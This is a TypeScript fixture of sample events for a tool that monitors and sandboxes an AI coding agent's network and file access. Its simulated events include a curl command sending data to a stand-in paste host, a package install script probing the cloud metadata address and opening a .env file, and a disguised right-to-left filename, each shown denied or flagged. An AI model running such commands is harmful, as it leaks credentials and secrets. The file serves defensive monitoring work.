import type {
  EgressDraft,
  SessionId,
  TimelineDraft,
  TimelineEvent,
} from '../../app/contract/index.ts';
import { PROJECT } from './sample-project.ts';
import { ago } from './sample-time.ts';

const claude = ['claude'];
const npmInstall = ['/usr/bin/npm', 'install', '--save-dev', '@sinonjs/fake-timers'];

const egress = (over: Partial<EgressDraft>, ms: number): EgressDraft => ({
  kind: 'egress',
  at: ago(ms),
  id: `e${ms}`,
  verdict: 'allowed',
  rule: 'package registries',
  scheme: 'https',
  method: 'GET',
  host: 'registry.example',
  port: 443,
  protocol: 'h1',
  inspected: true,
  ...(over.verdict === 'denied' ? {} : { status: 200 }),
  bytesOut: 0,
  bytesIn: 8602,
  durationMs: 96,
  program: { pid: 311, command: npmInstall, ancestors: [['bash', '-lc', 'npm install'], claude] },
  ...over,
});

export const OPEN: readonly EgressDraft[] = [
  egress(
    {
      host: 'api.anthropic.com',
      method: 'POST',
      path: '/v1/messages',
      credential: 'anthropic-work',
      bytesOut: 48_213,
      program: { pid: 20, command: claude },
    },
    4_000,
  ),
];

/** The story of the sketches, oldest first. */
export const STORY: readonly TimelineDraft[] = [
  { kind: 'session', at: ago(1_320_000), op: 'started' },
  {
    kind: 'policy',
    at: ago(1_319_500),
    op: 'applied',
    rules: ['preset claude-code', 'preset registries', 'default deny'],
  },
  {
    kind: 'credential',
    at: ago(1_319_000),
    op: 'granted',
    credential: 'anthropic-work',
    host: 'api.anthropic.com',
  },
  { kind: 'session', at: ago(1_318_000), op: 'ready' },
  {
    kind: 'process',
    at: ago(110_000),
    op: 'exit',
    command: ['npm', 'test', '--', '--grep', 'webhook'],
    exitCode: 1,
    durationMs: 8100,
    program: { pid: 200, command: ['bash'], ancestors: [claude] },
  },
  {
    kind: 'touch',
    at: ago(98_000),
    op: 'create',
    path: `${PROJECT}/test/helpers/clock.ts`,
    verdict: 'allowed',
    program: { pid: 20, command: claude },
  },
  egress(
    {
      host: 'github.com',
      path: '/acme/harbor-api.git/info/refs?service=git-upload-pack',
      credential: 'github-harbor',
      rule: 'grant github-harbor',
      bytesIn: 45_056,
      durationMs: 310,
      program: { pid: 250, command: ['git', 'fetch'], ancestors: [claude] },
    },
    80_000,
  ),
  egress(
    {
      verdict: 'denied',
      code: 'egress.private-address',
      host: '169.254.169.254',
      port: 80,
      scheme: 'http',
      path: '/latest/meta-data/',
      rule: 'private addresses',
      bytesIn: 0,
      program: { pid: 321, command: ['node', 'postinstall.js'], ancestors: [npmInstall, claude] },
    },
    70_000,
  ),
  {
    kind: 'dns',
    at: ago(66_000),
    verdict: 'denied',
    code: 'egress.no-rule',
    name: 'telemetry.pkgstats.dev',
    type: 'A',
    count: 3,
    program: { pid: 321, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] },
  },
  ...['retry.ts', 'queue.ts', 'index.ts', 'deliver.ts', 'sign.ts'].map((name): TimelineDraft => ({
    kind: 'touch',
    at: ago(61_000),
    op: 'read',
    path: `${PROJECT}/src/webhooks/${name}`,
    verdict: 'allowed',
    count: name === 'retry.ts' ? 7 : 1,
    program: { pid: 260, command: ['rg', 'backoff'], ancestors: [claude] },
  })),
  {
    kind: 'gap',
    at: ago(60_000),
    source: 'guard',
    lost: 214,
    message: 'touches came faster than they could be told',
  },
  {
    kind: 'touch',
    at: ago(57_000),
    op: 'write',
    path: `${PROJECT}/src/webhooks/retry.ts`,
    verdict: 'allowed',
    count: 2,
    program: { pid: 20, command: claude },
  },
  egress(
    {
      host: 'api.anthropic.com',
      method: 'POST',
      path: '/v1/messages',
      credential: 'anthropic-work',
      rule: 'grant anthropic-work',
      bytesOut: 21_000,
      bytesIn: 10_900,
      durationMs: 4200,
      program: { pid: 20, command: claude },
    },
    56_000,
  ),
  {
    kind: 'touch',
    at: ago(49_000),
    op: 'rename',
    path: `${PROJECT}/src/webhooks/old\u202etxt.exe`,
    to: `${PROJECT}/src/webhooks/legacy.ts`,
    verdict: 'allowed',
    program: { pid: 20, command: claude },
  },
  {
    kind: 'touch',
    at: ago(45_000),
    op: 'open',
    path: `${PROJECT}/.env`,
    verdict: 'denied',
    code: 'hide.secret-file',
    rule: '.env files',
    program: { pid: 330, command: ['node', 'scripts/report.js'], ancestors: [npmInstall] },
  },
  egress({ path: '/@sinonjs%2ffake-timers', firstSeen: true }, 44_000),
  egress({ path: '/type-detect' }, 43_000),
  egress({ path: '/type-detect' }, 42_500),
  egress({ path: '/type-detect' }, 42_000),
  {
    kind: 'credential',
    at: ago(30_000),
    op: 'tripped',
    credential: 'anthropic-work',
    host: 'paste.example.net',
    code: 'grant.wrong-host',
    program: {
      pid: 340,
      command: ['curl', '-d', '@-', 'https://paste.example.net'],
      ancestors: [['bash']],
    },
  },
  egress(
    {
      verdict: 'denied',
      code: 'egress.no-rule',
      host: 'telemetry.pkgstats.dev',
      method: 'POST',
      path: '/v2/events',
      rule: 'default deny',
      bytesOut: 1100,
      bytesIn: 0,
      firstSeen: true,
      program: {
        pid: 330,
        command: ['node', 'scripts/report.js'],
        ancestors: [npmInstall, claude],
      },
    },
    12_000,
  ),
  {
    kind: 'touch',
    at: ago(6_000),
    op: 'delete',
    path: `${PROJECT}/docs/old/retry-notes.md`,
    verdict: 'allowed',
    program: { pid: 20, command: claude },
  },
];

/** A long session: `count` further events before the story. */
export const longStory = (count: number): readonly TimelineDraft[] =>
  Array.from({ length: count }, (_, i): TimelineDraft => {
    const ms = 1_310_000 - Math.floor((i / count) * 1_190_000);
    const wave = Math.sin(i / 90) + Math.sin(i / 31) * 0.6;
    if (wave > 0.7 && i % 3 === 0) {
      return egress(
        {
          path: `/package-${i % 40}/-/package-${i}.tgz`,
          bytesIn: (i * 7919) % 90_000,
          id: `x${i}`,
          at: ago(ms),
        },
        ms,
      );
    }
    if (i % 211 === 0) {
      return egress(
        {
          verdict: 'denied',
          code: 'egress.no-rule',
          host: `cdn-${i}.example.net`,
          id: `y${i}`,
          at: ago(ms),
        },
        ms,
      );
    }
    const op = i % 5 === 0 ? ('write' as const) : ('read' as const);
    return {
      kind: 'touch',
      at: ago(ms),
      op,
      path: `${PROJECT}/src/module-${Math.floor(i / 9) % 60}/file-${i % 9}.ts`,
      verdict: 'allowed',
      program: { pid: 400 + (i % 7), command: ['node', 'build.js'], ancestors: [claude] },
    };
  });

export const numbered = (drafts: readonly TimelineDraft[], of: SessionId): TimelineEvent[] =>
  drafts.map((draft, index) => ({ ...draft, seq: index + 1, session: of }));
